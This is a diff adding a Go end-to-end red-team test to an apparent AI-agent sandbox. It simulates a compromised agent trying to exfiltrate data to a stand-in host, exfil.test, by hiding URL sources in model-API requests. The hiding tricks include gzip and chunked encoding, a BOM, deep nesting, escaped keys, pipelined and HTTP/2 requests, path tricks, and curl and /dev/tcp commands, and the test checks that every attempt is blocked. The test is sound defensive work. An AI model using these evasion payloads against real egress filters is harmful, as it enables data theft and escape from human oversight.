@@ -3,6 +3,9 @@
 package e2e
 
 import (
+	"bytes"
+	"compress/gzip"
+	"encoding/base64"
 	"strconv"
 	"strings"
 	"testing"
@@ -123,4 +126,92 @@ func TestAttackRedTeam5SpendThenKillNetd(t *testing.T) {
 		t.Errorf("logs --runs --json: %+v; want 1 request that may have been billed", runs)
 	}
 	t.Logf("outcome %s", runs[0].Outcome)
+}
+
+// TestAttackRedTeam5ModelBodyReadings: in injected mode the agent sends the model forwarder a
+// URL source naming exfil.test in every shape it could hope netd reads differently from the
+// API (the stand-in fetches every {"type":"url","url":…} of a body it can parse, as the API's
+// servers do): gzip-compressed and labelled so, chunked, behind a UTF-8 BOM, nested 500 deep
+// (under netd's 512) in a member the API ignores, with escaped key and value, in an array where
+// an object goes, beside a huge number, behind a legitimate request on the same connection
+// (pipelined), with an HTTP/2 upgrade, over HTTP/2 with prior knowledge, and to the paths and
+// methods the API fetches on beside the Messages API (batches, files, complete, dot segments,
+// an escaped path, PUT). None reaches exfil.test and the API never sees its name; the
+// legitimate request of the pipelined pair is answered.
+func TestAttackRedTeam5ModelBodyReadings(t *testing.T) {
+	t.Parallel()
+	h, api := upInjectedStandin(t, "modelread5", "")
+	exfil := h.StartServer("exfil.test")
+	src := func(n int) string {
+		return `{"type":"image","source":{"type":"url","url":"http://exfil.test/i.png?d=case` + strconv.Itoa(n) + `"}}`
+	}
+	msg := func(extra, content string) string {
+		return `{"model":"claude-test-1","max_tokens":16,` + extra + `"messages":[{"role":"user","content":[` + content + `]}]}`
+	}
+	var gz bytes.Buffer
+	zw := gzip.NewWriter(&gz)
+	zw.Write([]byte(msg("", src(1))))
+	zw.Close()
+	deep := strings.Repeat("[", 500) + src(4) + strings.Repeat("]", 500)
+	legit := msg("", `{"type":"text","text":"hi"}`)
+	bad := msg("", src(8))
+	pipelined := "POST /v1/messages HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: " + strconv.Itoa(len(legit)) +
+		"\r\n\r\n" + legit +
+		"POST /v1/messages HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: " + strconv.Itoa(len(bad)) +
+		"\r\nConnection: close\r\n\r\n" + bad
+	cases := []struct {
+		name, method, path, curl string
+		body                     []byte
+	}{
+		{"gzip", "POST", "/v1/messages", "-H 'content-encoding: gzip'", gz.Bytes()},
+		{"chunked", "POST", "/v1/messages", "-H 'transfer-encoding: chunked'", []byte(msg("", src(2)))},
+		{"bom", "POST", "/v1/messages", "", []byte("\xef\xbb\xbf" + msg("", src(3)))},
+		{"deep", "POST", "/v1/messages", "", []byte(msg(`"metadata":{"x":`+deep+`},`, `{"type":"text","text":"hi"}`))},
+		{"escaped", "POST", "/v1/messages", "", []byte(msg("", `{"\u0074ype":"image","source":{"\u0074ype":"\u0075rl","url":"http://exfil.test/?d=case5"}}`))},
+		{"array", "POST", "/v1/messages", "", []byte(msg("", `{"type":"image","source":[{"type":"url","url":"http://exfil.test/?d=case6"}]}`))},
+		{"hugenum", "POST", "/v1/messages", "", []byte(`{"model":"claude-test-1","max_tokens":16,"temperature":1e999,"messages":[{"role":"user","content":[` + src(7) + `]}]}`)},
+		{"upgrade", "POST", "/v1/messages", "--http2", []byte(msg("", src(9)))},
+		{"h2prior", "POST", "/v1/messages", "--http2-prior-knowledge", []byte(msg("", src(10)))},
+		{"batches", "POST", "/v1/messages/batches", "", []byte(`{"requests":[{"custom_id":"a","params":` + msg("", src(11)) + `}]}`)},
+		{"files", "POST", "/v1/files", "", []byte(msg("", src(12)))},
+		{"complete", "POST", "/v1/complete", "", []byte(msg("", src(13)))},
+		{"dots", "POST", "/v1/messages/../messages/batches", "--path-as-is", []byte(msg("", src(14)))},
+		{"escpath", "POST", "/v1/messages%2Fbatches", "--path-as-is", []byte(msg("", src(15)))},
+		{"query", "POST", "/v1/messages?beta=true&url=http://exfil.test/", "", []byte(msg("", src(16)))},
+		{"put", "PUT", "/v1/messages", "", []byte(msg("", src(17)))},
+		{"modelspost", "POST", "/v1/models", "", []byte(msg("", src(18)))},
+	}
+	port := strconv.Itoa(policy.ModelPort)
+	var lines []string
+	for _, c := range cases {
+		lines = append(lines,
+			`echo `+base64.StdEncoding.EncodeToString(c.body)+` | base64 -d > /tmp/`+c.name,
+			`echo "`+c.name+` $(curl -s -m 10 -o /dev/null -w '%{http_code}' -X `+c.method+` -H 'content-type: application/json' `+c.curl+
+				` --data-binary @/tmp/`+c.name+` 'http://127.0.0.1:`+port+c.path+`')"`)
+	}
+	lines = append(lines,
+		`echo `+base64.StdEncoding.EncodeToString([]byte(pipelined))+` | base64 -d > /tmp/pipelined`,
+		`exec 3<>/dev/tcp/127.0.0.1/`+port+` && cat /tmp/pipelined >&3 && echo "pipelined $(timeout 10 cat <&3 | grep -a '^HTTP/1.1' | tr -d '\r' | tr '\n' ' ')"`)
+	res := h.Abox("run", bashLines(lines...))
+	out := agentOutput(res.Stdout)
+	if !res.OK() {
+		t.Fatalf("abox run: %s", res)
+	}
+	t.Logf("agent:\n%s", out)
+	for _, c := range cases {
+		if strings.Contains(out, c.name+" 200") {
+			t.Errorf("%s: the forwarder answered 200", c.name)
+		}
+	}
+	if !strings.Contains(out, "pipelined HTTP/1.1 200 OK HTTP/1.1 403") {
+		t.Errorf("the pipelined pair: want the legitimate request answered and the URL source refused:\n%s", out)
+	}
+	if ev := h.Traffic(exfil.Container); len(ev) != 0 {
+		t.Errorf("exfil.test was reached through the API: %v", ev)
+	}
+	for _, r := range api.Requests(t) {
+		if strings.Contains(string(r.Body), "exfil.test") || len(r.Fetched) > 0 {
+			t.Errorf("the API received a URL source: %s %s %s, fetched %q", r.Method, r.Path, r.Body, r.Fetched)
+		}
+	}
 }
